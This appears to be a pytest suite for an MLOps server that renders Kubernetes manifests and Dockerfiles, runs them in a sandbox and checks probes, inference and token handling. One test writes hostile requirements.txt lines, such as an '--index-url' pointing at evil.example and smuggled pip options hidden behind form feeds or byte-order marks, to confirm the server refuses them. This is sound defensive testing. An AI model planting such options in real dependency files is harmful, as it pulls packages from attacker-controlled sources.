"""Rendered deployments start: the GitOps folder's deployment.yaml is executed as written.

A real `tamga server` renders a deployment when a registered model's alias moves. The test then runs the exact
container command, arguments and environment from deployment.yaml with the built binary (container_sandbox:
read-only root, the pod's emptyDirs as fresh tmpfs mounts, working directory `/`, the pod's non-root user, no
capabilities) and checks that the startup, readiness and liveness probes it names pass and that it answers
inferences. Every rendered object is validated against the Kubernetes OpenAPI schema, and the Dockerfile's
ENTRYPOINT/CMD/ENV are the same process as the Deployment's. So flags and manifests cannot drift apart.
"""
import json
import os
import re
import socket
import subprocess
import time

import numpy as np
import pytest
import requests
import yaml

import container_sandbox
from tamga_harness import TamgaServer, port_free, upload_model

API = "/api/2.0/mlflow"
DEPLOY = "/api/2.0/tamga/deployments"


def wait_for(fn, timeout, what):
    deadline = time.time() + timeout
    while time.time() < deadline:
        v = fn()
        if v:
            return v
        time.sleep(0.2)
    raise AssertionError("timed out waiting for " + what)


def register(srv, models, model_dir, name, alias="production"):
    run = requests.post(srv.url + API + "/runs/create", json={"experiment_id": "0"}).json()["run"]["info"]["run_id"]
    upload_model(srv.url, run, os.path.join(models, model_dir), "model")
    assert requests.post(srv.url + API + "/registered-models/create", json={"name": name}).status_code == 200
    r = requests.post(srv.url + API + "/model-versions/create", json={"name": name, "source": f"runs:/{run}/model"})
    assert r.status_code == 200, r.text
    r = requests.post(srv.url + API + "/registered-models/alias", json={"name": name, "alias": alias, "version": "1"})
    assert r.status_code == 200, r.text


def rendered_files(srv, namespace, name, timeout=30):
    folder = os.path.join(srv.data_dir, "gitops", namespace, name)
    wait_for(lambda: os.path.exists(os.path.join(folder, "deployment.yaml")), timeout, "the rendered manifests")
    return folder, {f: open(os.path.join(folder, f)).read() for f in sorted(os.listdir(folder))}


def dockerfile_process(text):
    """ENTRYPOINT, CMD and ENV of a Dockerfile (exec form)."""
    entry = json.loads(re.search(r"^ENTRYPOINT (.*)$", text, re.M).group(1))
    cmd = json.loads(re.search(r"^CMD (.*)$", text, re.M).group(1))
    env = [(k, json.loads(v)) for k, v in re.findall(r'^ENV (\w+)=(".*")$', text, re.M)]
    return entry, cmd, env


@pytest.fixture
def server(tamga_bin):
    s = TamgaServer(tamga_bin).start()
    yield s
    s.cleanup()


def test_rendered_deployment_starts_as_written(server, tamga_bin, models, expected, k8s_validate, tmp_path):
    reason = container_sandbox.available()
    if reason:
        pytest.fail("cannot run the container sandbox: " + reason)
    register(server, models, "xgb", "churn model")
    spec = {"name": "churn-api", "model_name": "churn model", "alias": "production", "namespace": "ml",
            "tracking_uri": server.url, "ingress_host": "churn.example.com", "cache_size": "2Gi",
            "replicas": 2, "min_replicas": 2, "max_replicas": 4}
    r = requests.post(server.url + DEPLOY, json=spec)
    assert r.status_code == 200, r.text
    folder, files = rendered_files(server, "ml", "churn-api")
    assert set(files) == {"Dockerfile", "deployment.yaml", "hpa.yaml", "ingress.yaml", "pdb.yaml", "service.yaml"}

    ok, report = k8s_validate(*[os.path.join(folder, f) for f in files if f.endswith(".yaml")])
    assert ok, report

    dep = yaml.safe_load(files["deployment.yaml"])
    pod, c = container_sandbox.pod_container(dep)
    # The Dockerfile starts the same process (docker run behaves like the pod).
    entry, cmd, env = dockerfile_process(files["Dockerfile"])
    assert entry == c["command"] and cmd == c["args"], (entry, cmd, c)
    assert env == [(e["name"], e["value"]) for e in c["env"] if "value" in e]
    # The pull token comes from a Secret (optional: this server has auth off), never written in the manifest.
    assert [e for e in c["env"] if "valueFrom" in e] == [{"name": "TAMGA_TOKEN", "valueFrom": {"secretKeyRef": {
        "name": "tamga-serving-token", "key": "token", "optional": True}}}]
    assert c["image"] == "ghcr.io/tamga-mlops/tamga:" + requests.get(server.url + "/api/2.0/tamga/version").json()["version"]
    assert c["securityContext"]["readOnlyRootFilesystem"] is True
    assert pod["securityContext"]["runAsNonRoot"] is True and pod["securityContext"]["runAsUser"] != 0
    assert yaml.safe_load(files["pdb.yaml"])["spec"]["maxUnavailable"] == 1
    assert yaml.safe_load(files["ingress.yaml"])["spec"]["ingressClassName"] == "nginx"

    ports = {p["name"]: p["containerPort"] for p in c["ports"]}
    for p in ports.values():
        assert port_free(p), f"port {p} is taken on this machine; the rendered container needs it"
    log_path = tmp_path / "container.log"
    proc = container_sandbox.start(dep, tamga_bin, str(log_path))
    try:
        base = f"http://127.0.0.1:{ports['http']}"

        def probe(name):
            try:
                return requests.get(base + c[name]["httpGet"]["path"], timeout=5).status_code == 200
            except requests.RequestException:
                return False

        def alive():
            assert proc.poll() is None, "the container exited:\n" + log_path.read_text()
            return probe("startupProbe")

        budget = c["startupProbe"]["periodSeconds"] * c["startupProbe"]["failureThreshold"]
        wait_for(alive, min(budget, 120), "the startup probe")
        assert probe("readinessProbe") and probe("livenessProbe")
        ready = requests.get(base + "/v2/health/ready").json()
        assert ready["models"][0]["name"] == "churn-api" and ready["models"][0]["version"] == "1", ready

        xq, p = expected["xq"], expected["p"]
        r = requests.post(f"{base}/v2/models/churn-api/infer", json={"inputs": [
            {"name": "input-0", "datatype": "FP32", "shape": list(xq.shape), "data": xq.flatten().tolist()}]})
        assert r.status_code == 200, r.text
        np.testing.assert_allclose(np.array(r.json()["outputs"][0]["data"]), p, rtol=1e-6, atol=1e-7)
        cols = [f"f{i}" for i in range(8)]
        r = requests.post(base + "/invocations", json={"dataframe_split": {"columns": cols, "data": xq[:4].tolist()}})
        assert r.status_code == 200 and r.json()["predictions"] == (p[:4] > 0.5).astype(int).tolist(), r.text
        with socket.create_connection(("127.0.0.1", ports["grpc"]), timeout=5):
            pass  # the gRPC port listens too
        log = log_path.read_text()
        lines = [json.loads(line) for line in log.splitlines()]  # TAMGA_LOG_FORMAT=json from the manifest
        assert any(line["msg"] == "tamga serve listening" for line in lines), log
    finally:
        proc.kill()
        proc.wait(timeout=30)


def test_unwritable_cache_is_a_clear_error_not_a_crash(server, tamga_bin, models, tmp_path):
    """Without the emptyDir (a read-only root, cwd `/`), serve exits at once with the reason and status 1."""
    reason = container_sandbox.available()
    if reason:
        pytest.fail("cannot run the container sandbox: " + reason)
    register(server, models, "xgb", "clf")
    r = requests.post(server.url + DEPLOY, json={"name": "clf", "model_name": "clf", "tracking_uri": server.url})
    assert r.status_code == 200, r.text
    _, files = rendered_files(server, "default", "clf")
    dep = yaml.safe_load(files["deployment.yaml"])
    pod, c = container_sandbox.pod_container(dep)
    c["volumeMounts"] = [m for m in c["volumeMounts"] if m["name"] != "model-cache"]
    args = c["args"]
    args[args.index("--port") + 1] = "0"  # free ports: only the start-up check matters here
    args[args.index("--grpc-port") + 1] = "-1"
    argv, _ = container_sandbox.command_line(dep, tamga_bin)
    out = subprocess.run(argv, capture_output=True, text=True, timeout=60)
    assert out.returncode == 1, out.stdout + out.stderr
    assert "cannot write the model cache directory '/var/cache/tamga'" in out.stdout + out.stderr
    assert "terminate called" not in out.stderr and "Aborted" not in out.stderr


def test_python_model_renders_its_requirements(server, models, k8s_validate):
    """A python_function-only model renders for the Python runtime: its pip requirements beside a Dockerfile
    that installs them; requirement options that would fetch from elsewhere are refused with a 400."""
    pyfunc = os.path.join(models, "pyfunc")
    with open(os.path.join(pyfunc, "requirements.txt"), "w") as f:
        f.write("numpy>=1.24\n# comment\nscikit-learn==1.4.2\n")
    register(server, models, "pyfunc", "lin")
    r = requests.post(server.url + "/api/2.0/tamga/deploy/render", json={"model_uri": "models:/lin/1",
                                                                         "spec": {"tracking_uri": server.url}})
    assert r.status_code == 200, r.text
    files = {f["path"].split("/")[-1]: f["content"] for f in r.json()["files"]}
    assert files["requirements.txt"] == "numpy>=1.24\n# comment\nscikit-learn==1.4.2\n"
    docker = files["Dockerfile"]
    assert "FROM ${TAMGA_IMAGE}" in docker and "-python" in docker
    assert "COPY requirements.txt" in docker and "pip install --no-cache-dir -r" in docker
    assert "ENV TAMGA_PYTHON=/opt/tamga-model-env/bin/python" in docker
    dep = yaml.safe_load(files["deployment.yaml"])
    assert dep["spec"]["template"]["spec"]["containers"][0]["image"] == "tamga-model-lin:v1"

    with open(os.path.join(pyfunc, "requirements.txt"), "w") as f:
        f.write("numpy\n--index-url http://evil.example/simple\n")
    register(server, models, "pyfunc", "lin2")
    r = requests.post(server.url + "/api/2.0/tamga/deploy/render", json={"model_uri": "models:/lin2/1"})
    assert r.status_code == 400 and "--index-url" in r.json()["message"], r.text
    with open(os.path.join(pyfunc, "requirements.txt"), "w") as f:
        f.write("numpy --global-option=--evil\n")
    register(server, models, "pyfunc", "lin3")
    r = requests.post(server.url + "/api/2.0/tamga/deploy/render", json={"model_uri": "models:/lin3/1"})
    assert r.status_code == 400 and "--global-option" in r.json()["message"], r.text
    # What pip would read as a new line: a form feed, a Unicode line separator, a byte-order mark.
    for i, text in enumerate([b"numpy\x0c--index-url http://evil\n", "numpy\u2028--index-url x\n".encode(),
                              b"\xef\xbb\xbf--index-url http://evil\n"]):
        with open(os.path.join(pyfunc, "requirements.txt"), "wb") as f:
            f.write(text)
        register(server, models, "pyfunc", "hidden%d" % i)
        r = requests.post(server.url + "/api/2.0/tamga/deploy/render", json={"model_uri": "models:/hidden%d/1" % i})
        assert r.status_code == 400, r.text
    os.remove(os.path.join(pyfunc, "requirements.txt"))
    # The spec cannot rename the model it renders.
    r = requests.post(server.url + "/api/2.0/tamga/deploy/render",
                      json={"model_uri": "models:/lin/1", "spec": {"model_name": "other"}})
    assert r.status_code == 400 and "model_name" in r.json()["message"], r.text


def test_rendered_deployment_pulls_from_an_auth_on_server_with_its_secret(tamga_bin, models, tmp_path):
    """With auth on, the rendered pod reads its token from the Secret the manifest names; without the Secret
    it cannot pull the model and says why."""
    reason = container_sandbox.available()
    if reason:
        pytest.fail("cannot run the container sandbox: " + reason)
    admin = ("admin", "admin-pass-1234")
    s = TamgaServer(tamga_bin, extra_args=["--auth", "on"], env={"TAMGA_ADMIN_PASSWORD": admin[1]}).start()
    try:
        sess = requests.Session()
        sess.auth = admin
        run = sess.post(s.url + API + "/runs/create", json={"experiment_id": "0"}).json()["run"]["info"]["run_id"]
        for root, _, names in os.walk(os.path.join(models, "xgb")):
            for f in names:
                rel = os.path.relpath(os.path.join(root, f), os.path.join(models, "xgb"))
                with open(os.path.join(root, f), "rb") as fh:
                    r = sess.put(f"{s.url}/api/2.0/mlflow-artifacts/artifacts/0/{run}/artifacts/model/{rel}",
                                 data=fh.read())
                assert r.status_code == 200, r.text
        assert sess.post(s.url + API + "/registered-models/create", json={"name": "sec"}).status_code == 200
        assert sess.post(s.url + API + "/model-versions/create",
                         json={"name": "sec", "source": f"runs:/{run}/model"}).status_code == 200
        # A reader with a token: what the Secret holds.
        assert sess.post(s.url + API + "/users/create", json={"username": "puller",
                                                              "password": "puller-pass-123"}).status_code == 200
        token = sess.post(s.url + "/api/2.0/tamga/tokens", json={"name": "pod", "username": "puller"}).json()["token"]
        assert sess.post(s.url + API + "/registered-models/alias",
                         json={"name": "sec", "alias": "production", "version": "1"}).status_code == 200
        r = sess.post(s.url + DEPLOY, json={"name": "sec-api", "model_name": "sec", "tracking_uri": s.url,
                                            "token_secret": "sec-pull"})
        assert r.status_code == 200, r.text
        _, files = rendered_files(s, "default", "sec-api")
        assert token not in "".join(files.values())
        dep = yaml.safe_load(files["deployment.yaml"])
        _, c = container_sandbox.pod_container(dep)
        ports = {p["name"]: p["containerPort"] for p in c["ports"]}
        ready_url = f"http://127.0.0.1:{ports['http']}" + c["readinessProbe"]["httpGet"]["path"]

        def ready():
            try:
                return requests.get(ready_url, timeout=5).status_code == 200
            except requests.RequestException:
                return False

        # No Secret: the pull is refused, the pod stays unready and its log says why; with it: it serves.
        for secrets in (None, {"sec-pull": {"token": token}}):
            log_path = tmp_path / ("pod-%s.log" % bool(secrets))
            proc = container_sandbox.start(dep, tamga_bin, str(log_path), secrets=secrets)
            try:
                if secrets is None:
                    wait_for(lambda: "not authenticated" in log_path.read_text(), 60, "the refused pull")
                    assert proc.poll() is None and not ready(), log_path.read_text()
                else:
                    wait_for(lambda: proc.poll() is not None or ready(), 60, "the pod to be ready")
                    assert proc.poll() is None, log_path.read_text()
                assert token not in log_path.read_text()
            finally:
                proc.kill()
                proc.wait(timeout=30)
    finally:
        s.cleanup()
